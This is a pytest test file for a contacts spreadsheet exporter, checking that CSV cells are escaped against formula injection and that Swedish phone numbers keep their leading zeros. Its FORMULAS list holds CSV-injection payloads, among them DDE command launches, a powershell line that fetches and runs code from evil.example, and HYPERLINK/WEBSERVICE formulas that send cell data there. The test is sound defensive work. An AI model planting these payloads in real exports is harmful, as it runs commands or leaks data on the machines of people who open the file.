"""What goes into a spreadsheet stays text: no cell is a formula, and no telephone number loses its zero."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest

from contacts.spreadsheets import as_text, csv_lines

# After OWASP's page on CSV injection and what is known from reports about it.
FORMULAS = [
    "=1+1",
    '=1+1";=1+1',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "-1",
    "+",
    "=",
    "@",
    '=HYPERLINK("https://evil.example?x="&A1;"Visa")',
    '=IMPORTXML(CONCAT("https://evil.example?v=";CONCATENATE(A2:E2));"//a/a10")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=10+20+cmd|' /C calc'!A0",
    "=AND(1;cmd|' /C calc'!A0)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tvanlig text",
    "\rvanlig text",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    '"=1+1',
    '""=1+1"',
    "'=1+1",
    "' =1+1",
    '"\t=1+1',
    '";=1+1',
    ",=1+1",
    "“=1+1”",
    "«=1+1»",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1+1",
    "–1+1",
    "|calc",
    "%0A=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1f=1+1",
    "0701234567",
    "+46 70 123 45 67",
    "+46701234567",
    "0046701234567",
    "123456789012345",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠", "−", "–", "—")
HARMLESS = [
    "",
    "Nadia Nattvandrare",
    "Alby",
    "070-123 45 67",
    "08-530 610 00",
    "Å, ä; ö",
    "8",
    "2026-11-22 23:14:05",
    "a=b",
    "mejl@alby.example",
    "Fel: 550 5.1.1 <x@y.example>",
    "1 av 2",
    "<b>fet</b>",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_what_looks_like_a_formula_or_a_number_becomes_text(payload: str) -> None:
    cell = as_text(payload)

    assert cell[0] == "'"
    assert len(cell) == len(payload) + 1


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert as_text(text) == text


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_cell_comes_back_whole_and_alone(payload: str) -> None:
    """No payload breaks out of its cell, however it quotes; a reader of the file finds it behind its apostrophe."""
    data = b"".join(csv_lines(["A", "B", "C"], [["före", payload, "efter"]]))

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";", strict=True))

    assert rows == [["A", "B", "C"], ["före", as_text(payload), "efter"]]
    assert not rows[1][1].startswith(DANGEROUS)


@pytest.mark.parametrize(
    ("phone", "cell"),
    [
        ("+46701234567", "'+46701234567"),
        ("+46 70-123 45 67", "'+46 70-123 45 67"),
        ("0701234567", "'0701234567"),
        ("070 123 45 67", "'070 123 45 67"),
        ("070-123 45 67", "070-123 45 67"),
    ],
)
def test_a_telephone_number_survives_as_text(phone: str, cell: str) -> None:
    assert as_text(phone) == cell


def test_the_file_is_such_as_swedish_excel_opens() -> None:
    lines = list(csv_lines(["Namn", "Försök"], [["Åsa", 3], ["Bo; «Bosse»", 0]]))

    assert lines == [
        b"\xef\xbb\xbf" + '"Namn";"Försök"\r\n'.encode(),
        '"Åsa";3\r\n'.encode(),
        '"Bo; «Bosse»";0\r\n'.encode(),
    ]


def test_lines_come_one_by_one() -> None:
    asked: list[int] = []

    def rows() -> Iterator[list[int]]:
        for number in range(3):
            asked.append(number)
            yield [number]

    lines = csv_lines(["Nummer"], rows())
    next(lines)
    assert asked == []
    next(lines)
    assert asked == [0]
